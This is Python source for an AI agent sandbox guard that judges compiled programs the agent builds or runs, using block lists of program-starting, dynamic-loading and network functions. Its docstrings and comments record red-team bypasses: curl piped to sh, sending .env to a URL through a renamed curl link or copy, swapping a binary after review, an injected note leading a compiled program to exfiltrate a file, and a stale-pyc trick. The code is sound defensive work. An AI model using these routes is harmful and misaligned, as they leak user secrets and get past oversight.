"""Compiled programs of the workspace: ``./app`` after ``gcc x.c -o app``, a binary decoded from base64, ``make``.

``./app`` ran whatever the file held: a program built from ``system("touch marker; curl … | sh")`` in the same
line or an earlier step, or an ELF file written by ``base64 -d`` and run in the next step, was never read (the
guard reads scripts, and a binary is not one). Two doors, one rule:

- a C or C++ compiler on the line (``safety.csource``): the sources it builds from are read as text before it
  runs, since what is compiled is built to be run; ``system("…")`` with a literal command is judged as that
  command line;
- an ELF file of the workspace that a command runs, or links (``gcc main.o lib.a``): its symbol table names the
  library functions it calls (``safety.elf``).

What starts programs (``system``, ``popen``, ``exec*``, ``posix_spawn``), enters the kernel past libc's named
functions (``syscall``, a ``syscall`` instruction in its own code), or turns data into code or names into
functions (``dlopen``/``dlsym``, ``mprotect``/``mmap``, memory both writable and executable) is asked about, as
is a program statically linked, stripped of its symbols, or loading libraries from its own folders. The limit,
said honestly: machine code can reach libc's functions by address arithmetic that no table of names shows;
the sandbox holds that.

Only a file written during the run is judged so. A program that was in the workspace before the run began (a
``ruff`` or ``uv`` in ``.venv/bin``, ``esbuild`` under ``node_modules``, a copied ``node``: every one of them calls
``execvp``/``posix_spawn``/``dlopen``, and most are larger than the guard reads) is the user's, as ``/usr/bin``'s
programs are, and runs as theirs do. Which file is which comes from the kernel: an inode's ctime changes with
every write, rename, link or ``chmod``, and nothing in the sandbox can set it back, so a file whose ctime is older
than the moment the environment had the workspace ready (``GuardFacts.since``) holds what it held then. The
limit: a program an earlier run wrote into a workspace that it then wrote back (``commit``) counts as the user's.
"""

from __future__ import annotations

import contextlib
import filecmp
import functools
import os
import posixpath
from typing import TYPE_CHECKING

from macrohard.safety import builds, elf, regular
from macrohard.safety import rules_data as R

if TYPE_CHECKING:
    from macrohard.safety.commands import Analyzer

MAX_BINARY = 8_000_000  # bytes of a compiled program the guard reads
# library functions that start programs, or reach code the table of names does not show
STARTS = frozenset({"system", "popen", "execl", "execle", "execlp", "execv", "execve", "execvp", "execvpe",
                    "execveat", "fexecve", "posix_spawn", "posix_spawnp", "wordexp", "__libc_system"})
REACHES = frozenset({"syscall", "dlopen", "dlmopen", "dlsym", "dlvsym", "dlinfo", "dladdr", "dladdr1",
                     "dl_iterate_phdr", "_r_debug", "_dl_debug_state", "__libc_dlopen_mode", "__libc_dlsym",
                     "mprotect", "pkey_mprotect", "mmap", "mmap64", "mremap", "ptrace", "process_vm_writev",
                     "memfd_create", "makecontext", "setcontext", "swapcontext", "getauxval"})
# library functions that open network connections or send a name to a resolver (rt48b: a C program the run built,
# `gcc -o s s.c && ./s`, sent a file to a listener after an injected note: flow control saw no send, since what the
# guard knew of a compiled program was whether it starts programs or changes files, never whether it talks)
NETWORK = frozenset({"socket", "connect", "sendto", "sendmsg", "sendmmsg", "getaddrinfo", "gethostbyname",
                     "gethostbyname2", "gethostbyname_r", "gethostbyname2_r", "gethostbyaddr", "gethostbyaddr_r",
                     "getnameinfo", "res_query", "res_search", "res_querydomain", "res_send", "res_nquery",
                     "res_nsearch", "res_nsend", "__res_query", "__res_search", "__res_send", "getaddrinfo_a",
                     "curl_easy_perform", "curl_multi_perform", "curl_easy_init"})
_SYSTEM_LIBS = ("/lib/", "/lib64/", "/usr/lib/", "/usr/lib64/", "/usr/local/lib/")
# how far a file's ctime may lag the clock that read ``since``: the kernel stamps files from a coarse clock (a
# tick behind), and a file system that keeps whole seconds (ctime_ns a multiple of 1e9) rounds down
_LAG_S, _LAG_COARSE_S = 0.05, 2.0


def flag(an: Analyzer, why: str) -> None:
    """Ask about compiled code the guard cannot read; the finding stands inside make's recipes too."""
    an.r.add("dynamic", why)
    an.r.firm.append(why)


def risky(names: set[str]) -> list[str]:
    """The names of ``names`` that start programs or reach code past the table of names."""
    return sorted(n for n in names if n in STARTS or n in REACHES or n.startswith(("_dl_", "__libc_dl")))


def read(path: str, limit: int = 0) -> bytes | None:
    """A regular file's bytes (up to ``limit``, or ``MAX_BINARY`` + 1); None when it is missing or not a regular
    file: a named pipe (``mkfifo x.c``) held the review forever, waiting for a writer."""
    try:
        with regular.open_regular(path, "rb") as fh:  # a pipe is noted: the review asks about it
            return fh.read(limit or MAX_BINARY + 1)
    except OSError:
        return None


def placed_before_run(an: Analyzer, path: str | None) -> bool:
    """Whether the file at ``path`` (through its links) is as it was when the run found the workspace ready."""
    since = an.paths.since
    if since is None or path is None or path in an.written or an.unknown_writes:  # or rewritten on the line
        return False
    try:
        return _changed_before(os.stat(path).st_ctime_ns, since)
    except OSError:
        return False


def _changed_before(ctime_ns: int, since: float) -> bool:
    """Whether a change time is older than the run's start, by more than the file system's clock grain."""
    lag = _LAG_COARSE_S if ctime_ns % 1_000_000_000 == 0 else _LAG_S
    return ctime_ns / 1e9 < since - lag


def judge_file(an: Analyzer, shown: str, data: bytes, runs: bool = True, path: str | None = None) -> None:
    """An ELF file of the workspace that a command runs (``runs``) or links into a program; ``path``: where it is,
    to tell a program the run found there (the user's: not judged) from one it wrote."""
    verb = "runs" if runs else "links"
    if runs:
        _swapped(an, shown)
        if not placed_before_run(an, path):
            _talks(an, shown, data)
        if an.ld_dirs:
            flag(an, f"{verb} {shown} with LD_LIBRARY_PATH={an.ld_dirs[:40]}: it loads libraries from a "
                                "folder the agent writes")
    if runs and builds.made_here(an.paths.builds, path) and not _disguised(path, shown) and not _starts(data):
        _may_write(an, shown)  # an approved build's program, unchanged, its sources as they were (safety.builds)
        return
    if placed_before_run(an, path):
        if runs and (real := _disguised(path, shown)):  # `tools/mysh -c '…'`: bash by a name nobody reads as bash
            flag(an, f"runs {shown}, a copy of {real} under another name, whose code the guard would not read")
        elif (lib := _library_written(an, path)) is not None:  # its RUNPATH ($ORIGIN/../lib): a library dropped there
            flag(an, f"{verb} {shown}, which loads libraries from {lib}, where this run wrote a file")
        return
    if runs:
        _may_write(an, shown)
    if len(data) > MAX_BINARY:
        flag(an, f"{verb} {shown}, a compiled program larger than {MAX_BINARY // 1_000_000} MB, too large "
                            "to review")
        return
    try:
        facts = elf.parse(data)
    except elf.Unreadable as exc:
        flag(an, f"{verb} {shown}, a compiled program whose headers the guard cannot read ({exc})")
        return
    why = _why(facts, runs)
    if why:
        flag(an, f"{verb} {shown}, a compiled program of the workspace that {why}; the guard cannot "
                            "read machine code: build it from sources on the same line, or run it with a person's "
                            "approval")


def _talks(an: Analyzer, shown: str, data: bytes) -> None:
    """A program the run wrote that calls the library's network functions uses the network (the category flow control
    reads as a send); one whose calls no table names (linked statically, stripped, unreadable) may."""
    try:
        facts = elf.parse(data[:MAX_BINARY])
    except elf.Unreadable:
        facts = None
    if facts is not None and facts.interp and facts.symbols:
        if found := sorted(facts.imports & NETWORK):
            an.r.add("network", f"runs {shown}, a compiled program of the workspace that calls {', '.join(found[:3])} "
                                "(it opens network connections)")
        return
    an.r.add("network", f"runs {shown}, a compiled program of the workspace whose library calls no table names "
                        "(linked statically or stripped): it may open network connections")


def _starts(data: bytes) -> bool:
    """Whether a program calls a library function that starts programs: asked about even when an approved build made
    it (its sources were read, but a header or module the guard did not find may have added the call)."""
    try:
        return bool(elf.parse(data).imports & STARTS)
    except elf.Unreadable:
        return True


@functools.cache
def _hiding_programs() -> dict[int, frozenset[str]]:
    """The system's programs, by size: a copy of one under another name (a shell, ``env``, ``xargs``, ``find``) runs
    what its arguments say, which the guard reads only under the program's own name."""
    sizes: dict[int, set[str]] = {}
    for folder in ("/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin"):
        with contextlib.suppress(OSError), os.scandir(folder) as entries:
            for entry in entries:
                with contextlib.suppress(OSError):
                    if entry.is_file() and (st := entry.stat()).st_size > 4096:  # programs, not short scripts
                        real = os.path.realpath(entry.path) if entry.is_symlink() else entry.path
                        sizes.setdefault(st.st_size, set()).add(real)
    return {size: frozenset(paths) for size, paths in sizes.items()}


def _disguised(path: str | None, shown: str) -> str | None:
    """The system program the file at ``path`` is a byte-for-byte copy of, when ``shown`` names it otherwise."""
    if path is None:
        return None
    with contextlib.suppress(OSError):
        for real in _hiding_programs().get(os.stat(path).st_size, ()):
            name = posixpath.basename(shown)  # under its own name, or a name the guard reads, judged as that one
            if name not in (posixpath.basename(real), *R.RISKY_ALIAS_TARGETS, *R.WRAPPERS) and filecmp.cmp(
                    path, real, shallow=False):
                return real
    return None


def _library_written(an: Analyzer, path: str | None) -> str | None:
    """The folder of the workspace on the RUNPATH of the program at ``path`` that holds a file the run wrote."""
    if path is None:
        return None
    origin = posixpath.dirname(os.path.realpath(path))
    for entry in elf.runpath(path):
        folder = posixpath.normpath(entry.replace("${ORIGIN}", origin).replace("$ORIGIN", origin))
        if not folder.startswith("/"):
            return entry  # relative to the directory the program runs in, which the agent picks
        if not any(folder == w or folder.startswith(w + "/") for w in an.paths.workspaces):
            continue
        if "$" in folder:  # $LIB, $PLATFORM: a folder of the workspace the guard does not name
            return entry
        with contextlib.suppress(OSError), os.scandir(folder) as entries:
            if any(not placed_before_run(an, e.path) for e in entries if e.is_file()):
                return entry
    return None


def _swapped(an: Analyzer, shown: str) -> None:
    """The file judged here may not be the file that runs: code earlier on the line, or a job an earlier step
    left running, may write it between this review and its start (`(sleep 3; cp evil app) &`, then `./app`)."""
    if an.unknown_writes:
        flag(an, f"runs {shown}, which may be rewritten before it runs ({an.rewriter}); write and run it in "
                 "separate steps")
    if an.jobs:
        flag(an, f"runs {shown}, which {an.jobs} process(es) an earlier step left running may replace after this "
                 "review; let them end first (`wait; ...`)")


def _may_write(an: Analyzer, shown: str) -> None:
    """A program the run wrote may write any file: a script or program run later on the line too (safety.rewrites),
    and the files its arguments name (guard40: ``./w .bashrc``, ``commands``)."""
    an.__dict__["argv_writes"] = True
    if not an.unknown_writes:
        an.unknown_writes = True
        an.rewriter = f"{shown} is a compiled program, which may write any file"


def _why(facts: elf.ElfFacts, runs: bool) -> str | None:
    linked_object = facts.kind == elf.ET_REL and not runs  # gcc main.o: its calls are in its own table
    if not linked_object and facts.kind not in (elf.ET_EXEC, elf.ET_DYN):
        return "is not a program"
    if not linked_object and not facts.interp and runs:
        return "is linked statically (its library code is inside it, unnamed)"
    if not facts.symbols:
        return "has no symbol table"
    if names := risky(facts.imports):
        return f"calls {', '.join(names[:4])}"
    if facts.own_memory:
        return "names a process's memory file (/proc/…/mem)"
    if facts.kernel_entry:
        return "enters the kernel directly from its own code"
    if facts.writable_code:
        return "has memory both writable and executable"
    if facts.runpath:
        return f"loads libraries from {facts.runpath[0][:40]}"
    if any(n.startswith("/") and not n.startswith(_SYSTEM_LIBS) for n in facts.needed):
        return "loads a library by a path outside the system's folders"
    return None


def ld_so(an: Analyzer, args: list[str], cwd: str | None, depth: int) -> None:
    """``/lib64/ld-linux-x86-64.so.2 ./app``: the system's loader runs any ELF file, executable bit or not."""
    i = 0
    while i < len(args) and args[i].startswith("--"):
        i += 1 if "=" in args[i] or args[i] in ("--list", "--verify", "--inhibit-cache") else 2
    if i < len(args):
        an.script(args[i], cwd, depth)
    if any(a.startswith(("--preload", "--audit", "--library-path")) for a in args):
        flag(an, "the loader is told to load libraries or audit modules of the run's choosing")


def is_loader(prog: str) -> bool:
    return prog.startswith(("ld-linux", "ld64.so", "ld.so", "ld-musl")) or prog == "ld.so"


def built_here(an: Analyzer, ap: str, shown: str) -> None:
    """``gcc … -o app && ./app``: its sources were judged as the compiler started (``safety.csource``); if the build
    fails the file already there runs instead, so that one is judged too."""
    if os.path.isfile(ap) and (data := read(ap)) is not None and elf.is_elf(data):
        judge_file(an, shown, data, path=ap)
    else:
        _swapped(an, shown)
    if ap in an.__dict__.get("compiled_net", ()):  # its sources call the network functions (safety.csource)
        an.r.add("network", f"runs {shown}, built on this line from sources that open network connections")
    if ap not in an.__dict__.get("compiled_quiet", ()):  # its sources name no way to change a file (safety.csource)
        _may_write(an, shown)


_SYSTEM_DIRS = ("/usr/", "/bin/", "/sbin/")


def system_program(an: Analyzer, shown: str, cwd: str | None) -> str | None:
    """The system program a path program the run made is, under another name: a link to it (``ln -s /usr/bin/curl
    fetch``) or a byte-for-byte copy of it (``cp /usr/bin/curl tools/lint``), made in an earlier step or earlier on
    the line. rt47: `./fetch -s --data-binary @.env URL` the step after the link (or the copy) was read as an unknown
    program `fetch` and allowed; it was curl, and sent the file. A command is judged as the program it runs, under
    any name. A link or copy that was in the workspace before the run began is the user's (``placed_before_run``;
    a copy of one under another name is asked about in ``judge_file``). The lead (47th wave): it is still a program
    the run made, which may write any file (``_may_write``), as it was judged before rt47: checks that read the line's
    text by program name (the pyc check's ``touch``, ``pymodules._SETS_TIMES``) do not see ``./tt`` as touch, and
    `cp /usr/bin/touch ./tt`, then `./tt -d 2020-01-01 m.py && python3 -c 'import m'` ran a stale pyc once rt47
    judged ./tt as touch alone (tests/safety/test_redteam38_fixed.py's predicted hole).

    rt48: a link that was in the workspace before the run (`tools/lint -> /usr/bin/curl`, committed in a repository
    someone else wrote: git keeps links) is a name too, and what runs is its target: it was judged as an unknown
    program `lint` and sent `.env`, run by its path, on PATH, through a chain of links, or as `./e curl …` (a link to
    env). So is a copy found there (it was asked about only when its name was not one the guard reads). And a link or
    copy named as a shell or an interpreter (`ln -s /usr/bin/curl tools/sh`, then `tools/sh -s --data-binary @.env
    URL`) was judged as that shell, by its name, whoever made it. The same program under a versioned name
    (`.venv/bin/python -> /usr/bin/python3.11`) is left to its name (``same_program``). Under another name it may
    also write any file, whoever made it: `tt -> /usr/bin/touch` committed in a repository set m.py's time back and
    the import after it on the line ran a stale pyc, as the lead's `cp /usr/bin/touch ./tt` did."""
    resolved = an.paths.resolve(shown, cwd)
    name = posixpath.basename(shown)
    if not any(resolved == w or resolved.startswith(w + "/") for w in an.paths.workspaces):
        if not resolved.startswith(_SYSTEM_DIRS) or same_program(name, posixpath.basename(resolved)):
            return None
        _may_write(an, shown)
        return resolved
    with contextlib.suppress(OSError):
        for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
            if not same_program(name, posixpath.basename(real)) and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
                    resolved, real, shallow=False):
                _may_write(an, shown)
                return real
    return None


MULTICALL = frozenset({"busybox", "toybox"})  # one program, many: which one runs is its argv[0]'s name


def as_run(real: str, shown: str) -> list[str]:
    """The words that a link or copy named ``shown`` of the system program ``real`` runs as: busybox and toybox run
    the applet their name says (`ash`: `busybox ash`), git a command named `git-NAME` (`git-config`: `git config`);
    any other program is itself, whatever it is called."""
    name, base = posixpath.basename(shown), posixpath.basename(real)
    if base in MULTICALL and name != base:
        return [real, name]
    if base == "git" and name.startswith("git-") and len(name) > 4:
        return [real, name[4:]]
    return [real]


def own_file(an: Analyzer, shown: str, cwd: str | None) -> bool:
    """Whether the path program ``shown`` is a file of its own (a script, or a compiled program of the workspace or
    of the sandbox's scratch folder), not the system's program its name says. rt48: `tools/sh job`, `tools/env ls`,
    `/tmp/sh job` and `./job` whose first line is `#!tools/sh` ran that file (a script that sent `.env`), and the
    guard judged them by the names alone (a shell reading `job`, env running `ls`) and never read it. A link or copy
    of another system program is ``system_program``'s; one of the same program (a virtualenv's `python`) is not."""
    resolved = an.paths.resolve(shown, cwd)
    if resolved.startswith(_SYSTEM_DIRS):
        return False
    if not any(resolved.startswith(w + "/") for w in an.paths.workspaces):
        return True  # read as a script: one in the sandbox's scratch folder is asked about, others are not seen
    if resolved not in an.written and not os.path.isfile(resolved):
        return False
    with contextlib.suppress(OSError):
        for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
            if same_program(posixpath.basename(shown), posixpath.basename(real)) and filecmp.cmp(
                    resolved, real, shallow=False):  # `python3 -m venv --copies`: .venv/bin/python is python
                return False
    return True


def same_program(shown: str, real: str) -> bool:
    """Whether the names ``shown`` and ``real`` are one program's, up to a version (``python``, ``python3`` and
    ``python3.11``; ``gcc-12`` and ``gcc``)."""
    return shown == real or _unversioned(shown) == _unversioned(real)


def _unversioned(name: str) -> str:
    from macrohard.safety.argv import canonical_program

    return canonical_program(name).rstrip("0123456789.-") or name
